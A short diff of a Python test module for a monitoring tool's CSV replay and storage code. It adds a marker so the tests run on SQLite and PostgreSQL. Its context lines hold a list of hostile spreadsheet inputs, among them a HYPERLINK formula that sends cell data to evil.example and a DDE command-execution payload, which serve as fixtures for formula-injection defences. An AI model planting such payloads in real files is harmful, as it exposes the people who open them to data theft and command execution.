@@ -17,6 +17,8 @@ from monitor.replay_csv import parse_text as parse_recording
 from monitor.store import Store
 from monitor.store.transfer import insert_session
 
+pytestmark = pytest.mark.both_engines  # on SQLite and on PostgreSQL (conftest.py)
+
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "'=already quoted", "'tis fine", "plain note"]
 
